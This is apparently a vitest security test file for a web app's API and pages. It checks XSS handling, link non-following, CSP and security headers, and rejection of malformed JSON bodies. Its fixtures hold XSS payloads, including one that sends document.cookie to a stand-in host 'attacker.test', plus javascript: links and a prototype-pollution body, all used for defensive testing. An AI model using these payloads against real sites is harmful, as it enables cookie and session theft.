import { createHash, randomUUID } from "node:crypto";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { maxApiBodyBytes } from "../../src/app";
import { testDatabaseKinds } from "../databases";
import { json } from "../harness";
import { startTargetSite, type TargetSite } from "../target-site";
import { pathWithIds, seedOwner } from "./api-fixtures";
import { apiOperations, operationName } from "./openapi-operations";
import { createSecurityContext, type SecurityContext } from "./security-context";

/**
 * Input handling and response headers (research/security.md §5, §7 rows
 * 41–42): stored script payloads come back as the same plain JSON strings,
 * links in analysed pages are never followed, every page and API response
 * carries the security headers, and no JSON route turns a huge or broken
 * body into a 500.
 */

const PAYLOADS = {
  title: `<script>alert("title")</script><img src=x onerror=alert(1)>`,
  content: `"><svg onload=alert(2)>[x](javascript:alert(3)) ![x](https://attacker.test/?q=secret) </textarea><script>alert(4)</script>`,
  metaDescription: `<img src=x onerror="fetch('https://attacker.test/'+document.cookie)"> & ' " < >`,
};

const HOSTILE_PAGE = `<!doctype html><html lang="en"><head>
<title>&lt;script&gt;alert(1)&lt;/script&gt; Hostile page</title>
<meta name="description" content="&quot;&gt;&lt;img src=x onerror=alert(2)&gt; description">
</head><body>
<h1><img src=x onerror=alert(3)>Heading with payload</h1>
<h2>&lt;script&gt;alert(4)&lt;/script&gt;</h2>
<p>Some text about the page so that it has content to analyse for keywords and readability.</p>
<a href="javascript:alert(5)">js link</a>
<a href="data:text/html,<script>alert(6)</script>">data link</a>
<a href="vbscript:msgbox(7)">vb link</a>
<a href="/followed-never">internal link</a>
</body></html>`;

const INLINE_ONE = `window.__theme = localStorage.getItem("theme") || "light";`;
const INLINE_TWO = `document.documentElement.dataset.ready = "1";`;

function sha256(text: string): string {
  return `'sha256-${createHash("sha256").update(text, "utf8").digest("base64")}'`;
}

function directives(csp: string): Map<string, string[]> {
  const map = new Map<string, string[]>();
  for (const part of csp.split(";")) {
    const [name, ...values] = part.trim().split(/\s+/);
    if (name) map.set(name, values);
  }
  return map;
}

/** Headers every response of the app must carry. */
function expectBaseHeaders(response: Response, what: string) {
  expect(response.headers.get("x-content-type-options"), what).toBe("nosniff");
  expect(response.headers.get("referrer-policy"), what).toMatch(
    /^(no-referrer|strict-origin-when-cross-origin)$/,
  );
  const csp = directives(response.headers.get("content-security-policy") ?? "");
  const frameAncestors = csp.get("frame-ancestors");
  const xfo = response.headers.get("x-frame-options");
  expect(xfo === "DENY" || frameAncestors?.join(" ") === "'none'", what).toBe(true);
}

let site: TargetSite;
let webRoot: string;
beforeAll(async () => {
  site = await startTargetSite({ "/hostile": HOSTILE_PAGE });
  webRoot = mkdtempSync(path.join(tmpdir(), "ranklens-webroot-"));
  writeFileSync(
    path.join(webRoot, "index.html"),
    `<!doctype html><html><head><script>${INLINE_ONE}</script><script type="module" src="/assets/app.js"></script></head><body>Home</body></html>`,
  );
  mkdirSync(path.join(webRoot, "about"));
  writeFileSync(
    path.join(webRoot, "about", "index.html"),
    `<!doctype html><html><head><script>${INLINE_ONE}</script></head><body>About<script>${INLINE_TWO}</script></body></html>`,
  );
  writeFileSync(path.join(webRoot, "404.html"), `<!doctype html><title>Not found</title><h1>Not found</h1>`);
  mkdirSync(path.join(webRoot, "assets"));
  writeFileSync(path.join(webRoot, "assets", "app.js"), `console.log("app");`);
});
afterAll(async () => {
  await site.close();
  rmSync(webRoot, { recursive: true, force: true });
});

describe.each(testDatabaseKinds())("input handling and headers [%s]", (kind) => {
  let t: SecurityContext;
  beforeAll(async () => {
    t = await createSecurityContext(kind, {
      env: { ALLOW_PRIVATE_NETWORKS: "true", BILLING: "off" },
      webRoot,
    });
  });
  afterAll(async () => {
    await t.close();
  });

  it("script payloads in content are stored and returned as the exact strings, as JSON with nosniff", async () => {
    const { cookie } = await t.createUser();
    const id = randomUUID();
    const created = await t.request("/api/v1/content", { cookie, json: { id, ...PAYLOADS } });
    expect(created.status).toBe(201);
    for (const response of [
      await t.request(`/api/v1/content/${id}`, { cookie }),
      await t.request("/api/v1/content", { cookie }),
    ]) {
      expect(response.headers.get("content-type")).toMatch(/^application\/json/);
      expect(response.headers.get("x-content-type-options")).toBe("nosniff");
      const text = await response.text();
      // JSON.stringify escapes nothing HTML-ish, so the raw payload must appear verbatim.
      expect(text).toContain(JSON.stringify(PAYLOADS.title).slice(1, -1));
      expect(text).not.toContain("&lt;");
    }
    const item = await json(await t.request(`/api/v1/content/${id}`, { cookie }));
    expect(item).toMatchObject(PAYLOADS);
  });

  it("an analysed page's payloads come back as plain strings, and its links are never followed", async () => {
    const { cookie } = await t.createUser();
    const before = site.hits.length;
    const response = await t.request("/api/v1/analyses", { cookie, json: { url: `${site.url}/hostile` } });
    expect(response.status).toBe(201);
    expect(response.headers.get("content-type")).toMatch(/^application\/json/);
    const { report } = await json(response);
    expect(report.title.text).toBe("<script>alert(1)</script> Hostile page");
    expect(JSON.stringify(report)).toContain("<img src=x onerror=alert(2)>");
    // Besides the page, only the origin's site files (robots.txt, llms.txt) are fetched.
    expect(site.hits.slice(before).filter((p) => p !== "/robots.txt" && p !== "/llms.txt")).toEqual([
      "/hostile",
    ]);
  });

  it("API responses carry CSP default-src 'none', nosniff, a referrer policy, no-store; HSTS only over https", async () => {
    const { cookie } = await t.createUser();
    for (const [pathname, withCookie] of [
      ["/api/v1/account", true],
      ["/api/v1/content", true],
      ["/api/v1/account", false],
      ["/api/v1/no-such-route", true],
      ["/api/health", false],
      ["/api/openapi.json", false],
    ] as const) {
      const response = await t.request(pathname, withCookie ? { cookie } : {});
      expectBaseHeaders(response, pathname);
      expect(response.headers.get("content-type"), pathname).toMatch(/^application\/json/);
      if (pathname !== "/api/openapi.json") {
        const csp = directives(response.headers.get("content-security-policy") ?? "");
        expect(csp.get("default-src"), pathname).toEqual(["'none'"]);
      }
      expect(response.headers.get("strict-transport-security"), pathname).toBeNull();
    }
    expect((await t.request("/api/v1/account", { cookie })).headers.get("cache-control")).toContain(
      "no-store",
    );
  });

  it.each([
    ["/", [INLINE_ONE]],
    ["/about", [INLINE_ONE, INLINE_TWO]],
    ["/missing-page", []],
  ])(
    "page %s: script-src lists exactly its inline scripts' hashes; strict CSP; base headers",
    async (pathname, inline) => {
      const response = await t.request(pathname);
      expect(response.headers.get("content-type")).toMatch(/^text\/html/);
      expectBaseHeaders(response, pathname);
      const csp = directives(response.headers.get("content-security-policy") ?? "");
      const scriptSrc = csp.get("script-src") ?? [];
      expect(scriptSrc).not.toContain("'unsafe-inline'");
      expect(scriptSrc).not.toContain("'unsafe-eval'");
      expect(scriptSrc.filter((s) => s.startsWith("'sha256-")).sort()).toEqual(inline.map(sha256).sort());
      expect(scriptSrc).not.toContain(sha256("alert(1)"));
      expect(csp.get("object-src")).toEqual(["'none'"]);
      expect(csp.get("frame-ancestors")).toEqual(["'none'"]);
      expect(csp.get("base-uri")).toBeDefined();
      expect(["'none'", "'self'"]).toContain(csp.get("base-uri")?.[0]);
      expect(response.headers.get("strict-transport-security")).toBeNull();
    },
  );

  it("static pages get HSTS of at least a year when PUBLIC_URL is https", async () => {
    const https = await createSecurityContext(kind, {
      env: { PUBLIC_URL: "https://seo.example.com" },
      webRoot,
    });
    try {
      for (const pathname of ["/", "/api/health", "/assets/app.js"]) {
        const hsts = (await https.request(pathname)).headers.get("strict-transport-security") ?? "";
        expect(Number(/max-age=(\d+)/.exec(hsts)?.[1]), pathname).toBeGreaterThanOrEqual(31_536_000);
      }
    } finally {
      await https.close();
    }
  });

  describe("every JSON route refuses huge and broken bodies with a 4xx, never a 500", () => {
    const jsonRoutes = apiOperations().filter((op) => op.jsonBody);
    let owner: Awaited<ReturnType<typeof seedOwner>>;
    beforeAll(async () => {
      owner = await seedOwner(t, site.url);
    });

    it.each(jsonRoutes.map((op) => [operationName(op), op] as const))("%s", async (_name, op) => {
      const send = (body: string, headers: Record<string, string> = {}) =>
        t.request(pathWithIds(op, owner), {
          method: op.method,
          cookie: owner.cookie,
          headers: { "content-type": "application/json", ...headers },
          body,
        });
      // Over the route's own limit (1 MB; 10 MB where a list crawl starts).
      const limit = maxApiBodyBytes(op.method, pathWithIds(op, owner));
      const huge = JSON.stringify({ title: "x".repeat(limit + 10), body: "y", url: "z" });
      const cases: [string, string][] = [
        ["oversized", huge],
        ["truncated", '{"title": "unterminated'],
        ["not JSON", "<xml/>"],
        ["empty", ""],
        ["null", "null"],
        ["array", "[1,2,3]"],
        ["number", "42"],
        ["deeply nested", `${"[".repeat(5000)}${"]".repeat(5000)}`],
        ["wrong types", '{"title": 42, "content": {}, "url": [], "version": "one", "name": null}'],
        ["prototype pollution", '{"__proto__": {"admin": true}, "constructor": {"prototype": {"x": 1}}}'],
      ];
      for (const [what, body] of cases) {
        const response = await send(body);
        expect(response.status, `${what}: ${(await response.text()).slice(0, 200)}`).toBeGreaterThanOrEqual(
          400,
        );
        expect(response.status, what).toBeLessThan(500);
      }
      const chunkedHuge = await t.app.request(
        `${t.env.publicUrl}${pathWithIds(op, owner)}`,
        {
          method: op.method,
          headers: { origin: t.env.publicUrl, cookie: owner.cookie, "content-type": "application/json" },
          body: new Blob([huge]).stream(),
          duplex: "half",
        } as RequestInit,
        { incoming: { socket: { remoteAddress: "10.7.0.1", remotePort: 1, remoteFamily: "IPv4" } } },
      );
      expect(chunkedHuge.status, "oversized without Content-Length").toBe(413);
      expect(({} as Record<string, unknown>).admin).toBeUndefined();
    });
  });
});
